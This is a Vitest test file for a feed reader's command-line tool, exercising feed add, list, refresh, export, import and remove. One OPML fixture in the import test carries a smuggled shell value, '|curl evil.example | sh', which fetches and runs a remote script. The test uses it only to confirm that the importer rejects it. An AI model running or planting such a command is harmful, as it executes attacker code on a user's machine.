import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Extractor } from '../../../electron/capture/extractor';
import { generateArticlePage, generateFeed } from '../../bench/feed-corpus';
import { runCliCaptured } from '../../helpers/cli';
import { type FeedServer, startFeedServer } from '../../helpers/feed-server';

const extractor = new Extractor();
let server: FeedServer;
let dataDir: string;

beforeAll(async () => {
  server = await startFeedServer();
  dataDir = await mkdtemp(join(tmpdir(), 'offprint-feeds-cli-'));
  const base = `${server.url}/news/articles`;
  server.set('/news/feed.xml', { kind: 'body', body: generateFeed({ items: 2, linkBase: base, startDate: Date.now() - 5 * 3600_000, title: 'CLI News' }) });
  for (const n of [0, 1]) server.set(`/news/articles/story-${n}.html`, { kind: 'body', body: generateArticlePage(n), contentType: 'text/html' });
  server.set('/news/', { kind: 'body', contentType: 'text/html', body: '<html><head><link rel="alternate" type="application/rss+xml" href="/news/feed.xml"></head><body>x</body></html>' });
});
afterAll(async () => {
  await server.close();
  await extractor.close();
  await rm(dataDir, { recursive: true, force: true });
});

const cli = (...argv: string[]) => runCliCaptured([...argv, '--data', dataDir], extractor);

describe('electron/cli: offprint feeds', () => {
  let feedId = '';

  it('feeds add <site> --folder F --json prints the feed and what was discovered, after saving its items', async () => {
    const { code, out } = await cli('feeds', 'add', `${server.url}/news/`, '--folder', 'World', '--json');
    expect(code).toBe(0);
    const printed = JSON.parse(out[0]!);
    expect(printed).toMatchObject({ feed: { title: 'CLI News', url: `${server.url}/news/feed.xml`, siteUrl: `${server.url}/news/articles/` }, discovered: [{ url: `${server.url}/news/feed.xml`, source: 'link' }], articles: 2 });
    expect(Object.keys(printed.feed).sort()).toEqual(['id', 'siteUrl', 'title', 'url']);
    feedId = printed.feed.id;
    const list = await cli('list', '--json');
    expect(list.out).toHaveLength(2);
  });

  it('feeds list --json, one subscription per line with its health', async () => {
    const { code, out } = await cli('feeds', 'list', '--json');
    expect(code).toBe(0);
    expect(out.map((l) => JSON.parse(l))).toEqual([expect.objectContaining({ id: feedId, folder: 'World', articles: 2, unread: 2, status: 'active' })]);
    const text = await cli('feeds', 'list');
    expect(text.out[0]).toContain('CLI News');
  });

  it('feeds refresh --json prints one line per feed: {id, status, new, updated, notModified}', async () => {
    const { code, out } = await cli('feeds', 'refresh', '--json');
    expect(code).toBe(0);
    expect(out.map((l) => JSON.parse(l))).toEqual([{ id: feedId, status: 'not-modified', new: 0, updated: 0, notModified: true }]);
    const one = await cli('feeds', 'refresh', feedId, '--json');
    expect(JSON.parse(one.out[0]!).id).toBe(feedId);
    const unknown = await cli('feeds', 'refresh', 'nosuchfeed0');
    expect(unknown.code).toBe(1);
    expect(unknown.err.join('\n')).toContain('There is no feed with the id nosuchfeed0');
  });

  it('feeds export, feeds import (with refusals in the report) and feeds remove --keep-articles', async () => {
    const exported = await cli('feeds', 'export');
    expect(exported.out.join('\n')).toContain(`xmlUrl="${server.url}/news/feed.xml"`);
    const file = join(dataDir, '..', `offprint-cli-${process.pid}.opml`);
    await cli('feeds', 'export', '--out', file);
    expect(await readFile(file, 'utf8')).toContain('<outline text="World"');
    await writeFile(file, `<opml version="1.0"><body><outline text="cmd" xmlUrl="|curl evil.example | sh"/><outline text="dup" xmlUrl="${server.url}/news/feed.xml"/><outline text="new" xmlUrl="${server.url}/other.xml"/></body></opml>`);
    const imported = await cli('feeds', 'import', file, '--json');
    const report = JSON.parse(imported.out[0]!);
    expect(report.added).toEqual([expect.objectContaining({ url: `${server.url}/other.xml`, title: 'new' })]);
    expect(report.skipped.map((s: { reason: string }) => s.reason)).toEqual([expect.stringContaining('not an http or https address'), 'already subscribed']);
    await rm(file, { force: true });
    const removed = await cli('feeds', 'remove', feedId, '--keep-articles');
    expect(removed.out[0]).toContain('0 articles deleted, 2 kept');
    expect((await cli('list', '--json')).out).toHaveLength(2);
    expect((await cli('feeds', 'bogus')).code).toBe(2);
  });
});
